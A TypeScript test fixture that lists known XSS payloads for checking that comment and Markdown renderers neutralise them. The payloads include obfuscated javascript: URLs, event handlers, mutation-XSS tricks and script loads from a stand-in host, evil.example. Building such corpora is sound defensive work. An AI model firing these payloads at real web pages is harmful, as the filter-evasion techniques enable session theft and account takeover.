/**
 * Known XSS payloads, as data. The unit tests run every one through the comment renderers and check
 * the output's invariants; browser tests can load the same list and check that nothing executes.
 *
 * Sources: OWASP XSS Filter Evasion Cheat Sheet, the HTML spec's raw-text elements, the DOMPurify
 * mutation-XSS reports (noscript, svg/style, form/math namespace confusion), and markdown-it's
 * own list of dangerous link schemes. `markdown: true` marks payloads that attack the Markdown layer.
 */
export interface XssCase {
  readonly name: string;
  readonly payload: string;
  readonly markdown?: boolean;
}

const JS = 'alert(1)';

export const XSS_CORPUS: readonly XssCase[] = [
  // Script elements
  { name: 'script element', payload: `<script>${JS}</script>` },
  { name: 'script with src', payload: '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>' },
  { name: 'unclosed script', payload: `<script>${JS}` },
  { name: 'mixed-case script', payload: `<ScRiPt>${JS}</sCrIpT>` },
  { name: 'nested script split', payload: `<<script>script>${JS}<</script>/script>` },
  { name: 'script split by inner script', payload: `<scr<script>ipt>${JS}</scr</script>ipt>` },
  { name: 'NUL byte in tag name', payload: `<scr\u0000ipt>${JS}</scr\u0000ipt>` },
  { name: 'attribute breakout then script', payload: `"><script>${JS}</script>` },
  { name: 'script inside svg', payload: `<svg><script>${JS}</script></svg>` },

  // Event handler attributes
  { name: 'img onerror', payload: `<img src=x onerror=${JS}>` },
  { name: 'img onerror, unclosed tag', payload: `<img src=x onerror=${JS}` },
  { name: 'NUL byte in attribute name', payload: `<img src=x o\u0000nerror=${JS}>` },
  { name: 'svg onload', payload: `<svg onload=${JS}>` },
  { name: 'svg/onload without space', payload: `<svg/onload=${JS}>` },
  { name: 'body onload', payload: `<body onload=${JS}>` },
  { name: 'input autofocus onfocus', payload: `<input onfocus=${JS} autofocus>` },
  { name: 'details ontoggle', payload: `<details open ontoggle=${JS}>x</details>` },
  { name: 'video source onerror', payload: `<video><source onerror=${JS}></video>` },
  { name: 'onclick on an allowed link', payload: `<a href="https://ok.example/" onclick="${JS}" onmouseover=${JS}>x</a>` },
  { name: 'onmouseover on an allowed paragraph', payload: `<p onmouseover="${JS}">x</p>` },
  { name: 'UPPERCASE img onerror', payload: `<IMG SRC=X ONERROR=${JS}>` },

  // Dangerous URLs in href
  { name: 'javascript: href', payload: `<a href="javascript:${JS}">x</a>` },
  { name: 'mixed-case javascript: href', payload: `<a href="JaVaScRiPt:${JS}">x</a>` },
  { name: 'colon as &#58;', payload: `<a href="javascript&#58;${JS}">x</a>` },
  { name: 'colon as &colon;', payload: `<a href="javascript&colon;${JS}">x</a>` },
  { name: 'j as &#106;', payload: `<a href="&#106;avascript:${JS}">x</a>` },
  { name: 'j as &#x6A;', payload: `<a href="&#x6A;avascript:${JS}">x</a>` },
  {
    name: 'zero-padded decimal entities without semicolons',
    payload: '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  },
  { name: 'tab entity inside the scheme', payload: `<a href="jav&#x09;ascript:${JS}">x</a>` },
  { name: 'literal tab inside the scheme', payload: `<a href="jav\tascript:${JS}">x</a>` },
  { name: 'newline entity inside the scheme', payload: `<a href="java&#10;script:${JS}">x</a>` },
  { name: 'leading space before the scheme', payload: `<a href=" javascript:${JS}">x</a>` },
  { name: 'leading control char before the scheme', payload: `<a href="&#14;javascript:${JS}">x</a>` },
  { name: 'NUL inside the scheme', payload: `<a href="java\u0000script:${JS}">x</a>` },
  { name: 'vbscript: href', payload: '<a href="vbscript:msgbox(1)">x</a>' },
  { name: 'data: text/html href', payload: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>' },
  { name: 'protocol-relative href', payload: '<a href="//evil.example/">x</a>' },
  { name: 'duplicate href, bad first', payload: `<a href="javascript:${JS}" href="https://ok.example/">x</a>` },
  { name: 'slash instead of space before href', payload: `<a/href="javascript:${JS}">x</a>` },
  { name: 'unquoted javascript: href', payload: `<a href=javascript:${JS}>x</a>` },
  { name: 'quote breakout inside href', payload: `<a href="https://ok.example/?q=&quot;><script>${JS}</script>">x</a>` },
  { name: 'q cite javascript:', payload: `<q cite="javascript:${JS}">x</q>` },
  { name: 'author rel and target', payload: '<a href="https://ok.example/" target="_blank" rel="opener dofollow">x</a>' },

  // Other elements that load or run things
  { name: 'iframe srcdoc', payload: `<iframe srcdoc="<script>${JS}</script>"></iframe>` },
  { name: 'iframe javascript: src', payload: `<iframe src="javascript:${JS}"></iframe>` },
  { name: 'math mi xlink:href', payload: `<math><mi xlink:href="javascript:${JS}">x</mi></math>` },
  { name: 'math href', payload: `<math href="javascript:${JS}">x</math>` },
  { name: 'svg a xlink:href', payload: `<svg><a xlink:href="javascript:${JS}"><text>x</text></a></svg>` },
  { name: 'base href', payload: `<base href="javascript:${JS}//">` },
  { name: 'meta refresh', payload: `<meta http-equiv="refresh" content="0;url=javascript:${JS}">` },
  { name: 'style expression()', payload: `<div style="width: expression(${JS})">x</div>` },
  { name: 'style url(javascript:) on a link', payload: `<a href="https://ok.example/" style="background:url(javascript:${JS})">x</a>` },
  { name: 'style element import', payload: "<style>@import 'https://evil.example/x.css';</style>" },
  { name: 'style element with onload', payload: `<style/onload=${JS}>` },
  { name: 'link stylesheet', payload: `<link rel=stylesheet href=javascript:${JS}>` },
  { name: 'object data', payload: `<object data="javascript:${JS}"></object>` },
  { name: 'embed src', payload: `<embed src="javascript:${JS}">` },
  { name: 'form action', payload: `<form action="javascript:${JS}"><button>x</button></form>` },
  { name: 'button formaction', payload: `<button formaction=javascript:${JS}>x</button>` },
  { name: 'isindex action', payload: `<isindex action=javascript:${JS} type=image>` },
  { name: 'marquee onstart', payload: `<marquee onstart=${JS}>x</marquee>` },
  { name: 'template content', payload: `<template><img src=x onerror=${JS}></template>` },
  { name: 'textarea content', payload: `<textarea><img src=x onerror=${JS}></textarea>` },
  { name: 'xmp content', payload: `<xmp><img src=x onerror=${JS}></xmp>` },
  { name: 'plaintext', payload: `<plaintext><img src=x onerror=${JS}>` },
  { name: 'title content', payload: `<title><img src=x onerror=${JS}></title>` },
  { name: 'img inside an allowed link', payload: `<a href="https://ok.example/"><img src=x onerror=${JS}></a>` },
  { name: 'HTML comment', payload: `<!--<img src=x onerror=${JS}>-->` },
  { name: 'conditional comment', payload: `<!--[if gte IE 4]><script>${JS}</script><![endif]-->` },
  { name: 'CDATA section', payload: `<![CDATA[<script>${JS}</script>]]>` },

  // Mutation XSS classics: sanitizer and browser disagree about where an element ends
  { name: 'mXSS noscript title', payload: `<noscript><p title="</noscript><img src=x onerror=${JS}>">` },
  { name: 'mXSS svg style', payload: `<svg></p><style><a id="</style><img src=1 onerror=${JS}>">` },
  { name: 'mXSS form math mglyph', payload: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${JS}>` },
  { name: 'mXSS math style img', payload: `<math><mtext><table><mglyph><style><img src=x onerror=${JS}></style></mglyph></table></mtext></math>` },
  { name: 'mXSS noembed', payload: `<noembed><img title="</noembed><img src onerror=${JS}>"></noembed>` },
  { name: 'mXSS xmp attribute', payload: `<xmp><p title="</xmp><img src=x onerror=${JS}>">` },

  // Markdown-level tricks
  { name: 'md link javascript:', payload: `[x](javascript:${JS})`, markdown: true },
  { name: 'md link mixed-case javascript:', payload: `[x](JaVaScRiPt:${JS})`, markdown: true },
  { name: 'md link entity colon', payload: `[x](javascript&#58;${JS})`, markdown: true },
  { name: 'md link angle-bracket destination', payload: `[x](<javascript:${JS}>)`, markdown: true },
  { name: 'md link leading space', payload: `[x]( javascript:${JS} )`, markdown: true },
  { name: 'md link data: html', payload: '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', markdown: true },
  { name: 'md link data: image (markdown-it allows it)', payload: '[x](data:image/png;base64,iVBORw0KGgo=)', markdown: true },
  { name: 'md link vbscript:', payload: '[x](vbscript:msgbox(1))', markdown: true },
  { name: 'md image javascript:', payload: `![x](javascript:${JS})`, markdown: true },
  { name: 'md image onerror title', payload: `![x](https://ok.example/a.png "onerror=${JS}")`, markdown: true },
  { name: 'md reference link', payload: `[x][r]\n\n[r]: javascript:${JS}`, markdown: true },
  { name: 'md autolink javascript:', payload: `<javascript:${JS}>`, markdown: true },
  { name: 'md link title quote breakout', payload: `[x](https://ok.example/ "a\\" onmouseover=\\"${JS}")`, markdown: true },
  { name: 'bare URL with quote breakout', payload: `https://ok.example/"onmouseover="${JS}`, markdown: true },
  { name: 'bare javascript: text', payload: `javascript:${JS}`, markdown: true },
  { name: 'html inside md code span stays text', payload: `\`<script>${JS}</script>\``, markdown: true },
  { name: 'html block script', payload: `para\n\n<script>\n${JS}\n</script>\n\nafter`, markdown: true },
];
